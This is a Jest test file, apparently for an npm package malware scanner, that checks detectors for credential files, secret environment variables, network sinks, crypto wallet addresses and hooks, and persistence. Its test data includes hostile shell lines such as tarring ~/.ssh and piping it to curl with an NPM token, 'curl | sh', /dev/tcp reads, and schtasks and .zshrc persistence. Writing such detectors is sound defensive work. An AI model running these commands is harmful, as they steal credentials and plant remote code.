import { describe, expect, it } from '@jest/globals'
import { createHash } from 'node:crypto'
import { factsOf } from '../../../../src/rules/lib/code/index.js'
import type { FileFacts } from '../../../../src/rules/lib/code/types.js'
import {
  credentialPath,
  credentialSources,
  credentialSourcesInLine,
  installTimeFiles,
  isOwnVariable,
  networkSinks,
  networkSinksInLine,
  persistenceSignals,
  persistenceSignalsInLine,
  secretEnvGroup,
  walletAddresses,
  walletHooks
} from '../../../../src/rules/lib/secrets/index.js'
import {
  base58CheckEncode,
  base58Decode
} from '../../../../src/rules/lib/secrets/wallet-addresses.js'
import { makeFiles, makeManifest } from '../../../helpers/factories.js'

function facts(code: string): FileFacts {
  const file = makeFiles({ 'index.js': code }).files.get('index.js')
  const result = file ? factsOf(file) : undefined
  if (!result) throw new Error('no facts')
  return result
}

function address(version: number, label: string): string {
  const payload = Buffer.alloc(21)
  payload[0] = version
  createHash('sha256').update(label).digest().copy(payload, 1, 0, 20)
  return base58CheckEncode(payload)
}

describe('credential sources', () => {
  it.each([
    ['~/.npmrc', '.npmrc'],
    ['C:\\Users\\x\\.ssh\\id_rsa', '.ssh'],
    ['$HOME/.aws/credentials', '.aws/credentials'],
    ['.config/gcloud/application_default_credentials.json', '.config/gcloud'],
    ['/root/.kube/config', '.kube/config'],
    ['.env.production', '.env'],
    ['AppData/Roaming/Exodus/exodus.wallet', 'Exodus']
  ])('%s is %s', (path, name) => {
    expect(credentialPath(path)?.name).toBe(name)
  })

  it.each(['.ssh/known_hosts', '.env.example', 'exodus', 'src/env.js', '.aws/config'])(
    '%s is not a credential path',
    (path) => {
      expect(credentialPath(path)).toBeUndefined()
    }
  )

  it.each([
    ['NPM_TOKEN', 'npm'],
    ['GH_TOKEN', 'github'],
    ['AWS_SECRET_ACCESS_KEY', 'aws'],
    ['SLACK_BOT_TOKEN', 'token-env'],
    ['DB_PASSWORD', 'token-env'],
    ['NODE_ENV', undefined],
    ['CI', undefined],
    ['STRIPE_PUBLISHABLE_KEY', undefined],
    // a package's own test switches (yarn's bundle reads these), not a victim's credentials
    ['TEST_NPM_PASSWORD', undefined],
    ['TEST_NPM_2FA_TOKEN', undefined],
    ['E2E_GITHUB_TOKEN', undefined],
    ['MOCK_API_KEY', undefined],
    // `TEST` inside a name is not a test switch
    ['CONTEST_API_KEY', 'token-env'],
    ['LATEST_RELEASE_TOKEN', 'token-env']
  ])('%s has group %s', (name, group) => {
    expect(secretEnvGroup(name)).toBe(group)
  })

  it('knows a package its own variables', () => {
    expect(isOwnVariable('POSTMARK_SERVER_TOKEN', 'postmark-mcp')).toBe(true)
    expect(isOwnVariable('AWS_ACCESS_KEY_ID', '@aws-sdk/credential-providers')).toBe(true)
    expect(isOwnVariable('NPM_TOKEN', 'left-pad')).toBe(false)
  })

  it('finds joined paths, env reads, env dumps and metadata endpoints in facts', () => {
    const found = credentialSources(
      facts(
        [
          "const a = path.join(os.homedir(), '.docker', 'config.json')",
          'const b = process.env.GITHUB_TOKEN',
          'const c = JSON.stringify(process.env)',
          "const d = 'http://metadata.google.internal/computeMetadata/v1/'"
        ].join('\n')
      )
    )
    expect(found.map((source) => [source.kind, source.name, source.line])).toEqual([
      ['metadata-endpoint', 'metadata.google.internal', 4],
      ['credential-file', '.docker/config.json', 1],
      ['env-var', 'GITHUB_TOKEN', 2],
      ['env-dump', 'process.env', 3]
    ])
  })

  it('reads shell lines', () => {
    const found = credentialSourcesInLine('tar czf - ~/.ssh | curl -d @- -H "x: $NPM_TOKEN" h', 3)
    expect(found.map((source) => source.name)).toEqual(['.ssh', 'NPM_TOKEN'])
    expect(credentialSourcesInLine('env | base64', 1)[0]?.kind).toBe('env-dump')
    expect(credentialSourcesInLine('env NODE_ENV=production node x.js', 1)).toEqual([])
  })
})

describe('network sinks', () => {
  it('finds calls and modules', () => {
    const code = [
      "const https = require('https')",
      "https.request({ host: 'a.invalid' })",
      "axios.post('https://a.invalid', data)",
      "new WebSocket('wss://a.invalid')",
      'dns.resolve4(encoded + ".a.invalid", cb)',
      "dns.lookup('registry.invalid', cb)",
      "execSync('curl -d @/tmp/x https://a.invalid')",
      'transporter.sendMail(message)',
      "cache.fetch('key')"
    ].join('\n')
    const sinks = networkSinks(facts(code)).map((sink) => `${sink.kind}:${sink.line}`)
    expect(sinks.sort()).toEqual(
      ['module:1', 'http:2', 'http-client:3', 'websocket:4', 'dns:5', 'process:7', 'mail:8'].sort()
    )
  })

  it('reads shell lines', () => {
    expect(networkSinksInLine('curl -s https://a.invalid | sh', 1)[0]?.kind).toBe('process')
    expect(networkSinksInLine('cat /dev/tcp/203.0.113.1/80', 1)).toHaveLength(1)
    expect(networkSinksInLine('echo curling is a sport', 1)).toEqual([])
  })
})

describe('wallet addresses', () => {
  it('round-trips base58check and validates chains', () => {
    const btc = address(0x00, 'a')
    const p2sh = address(0x05, 'b')
    const trx = address(0x41, 'c')
    expect(base58Decode(btc)?.length).toBe(25)
    expect(walletAddresses(`${btc} ${p2sh} ${trx}`).map((found) => found.chain)).toEqual([
      'BTC',
      'BTC',
      'TRX'
    ])
  })

  it('rejects a bad checksum, hex without 0x, longer hex and the zero address', () => {
    const btc = address(0x00, 'a')
    const broken = btc.slice(0, -1) + (btc.endsWith('z') ? 'y' : 'z')
    const text = [
      broken,
      'a94a8fe5ccb19ba61c4c0873d391e987982fbbd3',
      `0x${'ab12'.repeat(16)}`,
      `0x${'0'.repeat(40)}`
    ].join(' ')
    expect(walletAddresses(text)).toEqual([])
  })

  it('marks mixed-case ETH confident and lower-case ETH not', () => {
    const found = walletAddresses(
      '0x9edEd13279d555eAf57750c70305884c4F728f71 0x2c19458b1ba89fdf0fda053aae5e5da0b6dfbd9f'
    )
    expect(found.map((item) => item.confident)).toEqual([true, false])
  })

  it('skips a Solana-shaped run cut out of a long base64 blob (ethers dist/ethers.js)', () => {
    const sol = 'GkB5givzQpfZsGUVoujFQCegj4PXK7dvfEgzHEgW21QW'
    const head = 'lPZ/1yV853aOGMstWkDUS9GDfJhCl4B9ArzLH7d0cdbx1Gax/n/rnVdySWKaWqpQvrWjkTJiYFCP5c2U'
    const tail = 'O7BVADlogvR0xyytp7E0SxZucQJu2+i3N2/kct3PQDF5v6DM+Lh2l5PdXRCPjDsWWIyNccplm50mbJjI'
    expect(walletAddresses(`${head}/${sol}+${tail}`)).toEqual([])
    // the same run as a literal, in a short URL path, or bordered by base64 punctuation in a
    // short string still counts
    expect(walletAddresses(sol).map((found) => found.chain)).toEqual(['SOL'])
    expect(walletAddresses(`https://explorer.example/address/${sol}/tokens`)).toHaveLength(1)
    expect(walletAddresses(`a/${sol}+b`)).toHaveLength(1)
  })

  it('keeps checksummed addresses even inside a base64-looking run', () => {
    const btc = address(0x00, 'in-blob')
    const blob = `${'A'.repeat(80)}/${btc}+${'B'.repeat(80)}`
    expect(walletAddresses(blob).map((found) => found.chain)).toEqual(['BTC'])
  })

  it('validates bech32', () => {
    expect(walletAddresses('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq')[0]?.chain).toBe('BTC')
    expect(walletAddresses('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdx')).toEqual([])
  })
})

describe('wallet hooks', () => {
  it('finds assignments, defineProperty and proxies', () => {
    const code = [
      'globalThis.fetch = wrapped',
      'XMLHttpRequest.prototype.open = wrappedOpen',
      "Object.defineProperty(window, 'ethereum', { get })",
      'window.solana = new Proxy(window.solana, handler)',
      'const accounts = window.ethereum.request({})'
    ].join('\n')
    const hooks = walletHooks(facts(code)).map((hook) => `${hook.target}:${hook.name}:${hook.line}`)
    expect(hooks).toEqual(
      expect.arrayContaining([
        'fetch:fetch:1',
        'xhr:XMLHttpRequest.prototype.open:2',
        'wallet:ethereum:3',
        'wallet:solana:4'
      ])
    )
    expect(hooks.some((hook) => hook.endsWith(':5'))).toBe(false)
  })
})

describe('persistence', () => {
  it('needs a write for paths, not for commands', () => {
    expect(persistenceSignals(facts("const p = '.github/workflows/x.yml'"))).toEqual([])
    const written = persistenceSignals(facts("fs.writeFileSync('.github/workflows/x.yml', y)"))
    expect(written.map((signal) => signal.kind)).toEqual(['workflow'])
    const command = persistenceSignals(facts("exec('schtasks /create /tn x /tr y')"))
    expect(command.map((signal) => signal.kind)).toEqual(['scheduled-task'])
  })

  it('reads shell lines', () => {
    expect(persistenceSignalsInLine('echo x >> ~/.zshrc', 1)[0]?.kind).toBe('shell-rc')
    expect(persistenceSignalsInLine('cat ~/.zshrc', 1)).toEqual([])
    expect(persistenceSignalsInLine('systemctl enable x.service', 1)[0]?.kind).toBe(
      'scheduled-task'
    )
  })

  it('finds install-time files and their direct requires', () => {
    const files = makeFiles({
      'package.json': JSON.stringify({
        scripts: { postinstall: 'node ./scripts/setup.js && echo' }
      }),
      'scripts/setup.js': "require('../lib/run')\nrequire('fs')",
      'lib/run.js': '',
      'index.js': ''
    })
    expect([...installTimeFiles({ files, manifest: makeManifest() })].sort()).toEqual([
      'lib/run.js',
      'scripts/setup.js'
    ])
  })
})
